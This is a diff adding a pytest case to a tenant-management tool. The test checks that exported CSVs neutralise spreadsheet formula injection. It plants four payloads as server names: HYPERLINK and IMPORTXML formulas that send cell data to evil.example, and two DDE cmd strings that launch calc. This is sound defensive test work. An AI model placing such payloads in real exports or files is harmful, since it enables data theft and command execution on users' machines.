@@ -8,6 +8,8 @@ from __future__ import annotations
 
 import pytest
 
+from tenantlead.smartlead import Smartlead
+from tenantlead.tenantcore import TenantCore
 from tests.reliability.hardening import _assert_clean, case
 
 __all__ = ["case"]
@@ -110,3 +112,45 @@ def bad_key_files_are_usage_errors() -> None:
             assert code == 2, (args, err.getvalue())
             assert says in err.getvalue().splitlines()[0], err.getvalue()
             assert content[4:] not in out.getvalue() + err.getvalue()
+
+
+# ---------------------------------------------------------------------------------- 19
+
+
+@case(19, "attack", "server names like =HYPERLINK(...) and @SUM(...) reach every exported CSV as text")
+def csv_exports_carry_no_live_formula() -> None:
+    import csv
+    import io
+
+    from tenantlead.orchestration import Fleet, LimitPolicy, align_limits, connect, troubleshoot
+    from tenantlead.sandbox import Sandbox
+
+    sb = Sandbox.demo(seed=16, tenants=4)
+    planted = [
+        '=HYPERLINK("https://evil.example/?leak="&C2&D2,"Open the report")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        '+IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+    ]
+    for tenant, name in zip(sb.tc_account.tenants.values(), planted, strict=True):
+        tenant.tenant_name = name
+    tc = TenantCore(sb.tenantcore_api_key, **sb.client_options())
+    sl = Smartlead(sb.smartlead_api_key, **sb.client_options())
+    fleet = Fleet.load(tc, sl)
+    tables = (fleet, troubleshoot(fleet), connect(fleet, "manual"), align_limits(fleet, LimitPolicy()))
+    for table in tables:
+        text = table.to_csv()
+        rows = list(csv.reader(io.StringIO(text)))
+        cells = [c for row in rows for c in row]
+        live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert not live, (type(table).__name__, live[:3])
+        shown = {c[1:] for c in cells if c.startswith("'")}
+        named = {r.get("tenant_name") for r in table.to_records()} & set(planted)
+        assert named, type(table).__name__
+        assert named <= shown, type(table).__name__  # kept, as text
+    assert set(planted) <= {r.tenant_name for r in fleet.rows}
+    # Numbers stay numbers (a number is not text a server chose).
+    header, *body = list(csv.reader(io.StringIO(fleet.to_csv())))
+    ids = [row[header.index("account_id")] for row in body if row[header.index("account_id")]]
+    assert ids
+    assert all(i.isdigit() for i in ids)
